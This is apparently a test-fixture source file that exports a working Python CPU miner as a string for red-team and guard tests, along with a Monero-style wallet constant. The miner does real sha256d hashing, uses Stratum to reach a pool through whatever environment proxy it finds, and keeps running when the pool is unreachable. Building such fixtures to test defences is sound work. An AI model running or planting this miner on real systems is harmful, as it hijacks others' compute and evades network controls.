// A behaviour-faithful CPU miner as a Python program (the red team serves it, guard tests run
// it): real hashing (sha256d over a nonce range), Stratum v1 to its pool through the HTTP proxy
// it finds in the environment, a wallet and pool URL on its command line, and it keeps hashing
// when the pool goes away.
export const MINER_PY = String.raw`
import hashlib, json, os, socket, sys, time, urllib.parse
args = sys.argv[1:]
url = args[args.index('-o') + 1]
wallet = args[args.index('-u') + 1]
seconds = float(args[args.index('--run-seconds') + 1]) if '--run-seconds' in args else 60.0
pool = urllib.parse.urlparse(url.replace('stratum+tcp', 'http'))
def connect():
    proxy = urllib.parse.urlparse(os.environ.get('HTTPS_PROXY') or os.environ['HTTP_PROXY'])
    s = socket.create_connection((proxy.hostname, proxy.port), timeout=5)
    s.sendall(('CONNECT %s:%d HTTP/1.1\r\nHost: %s:%d\r\n\r\n' % (pool.hostname, pool.port, pool.hostname, pool.port)).encode())
    answer = s.recv(4096)
    if b' 200 ' not in answer.split(b'\r\n')[0]:
        raise OSError('proxy refused: ' + answer.split(b'\r\n')[0].decode())
    return s
sock = None
try:
    sock = connect()
    sock.sendall(b'{"id":1,"method":"mining.subscribe","params":["cpuminer/2.5.1"]}\n')
    sock.sendall(('{"id":2,"method":"mining.authorize","params":["%s","x"]}\n' % wallet).encode())
except OSError as e:
    print('pool unreachable:', e, flush=True)
    sock = None
end = time.time() + seconds
nonce = 0
while time.time() < end:
    header = b'job1' + nonce.to_bytes(8, 'little')
    digest = hashlib.sha256(hashlib.sha256(header).digest()).digest()
    if digest[0] == 0 and digest[1] == 0 and sock is not None:
        try:
            sock.sendall(('{"id":4,"method":"mining.submit","params":["%s","job1","%x"]}\n' % (wallet, nonce)).encode())
        except OSError:
            sock = None
    nonce += 1
`;

/** A Monero-style wallet address (95 base58 characters starting with 4). */
export const WALLET = '4' + 'AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge'.slice(0, 94);
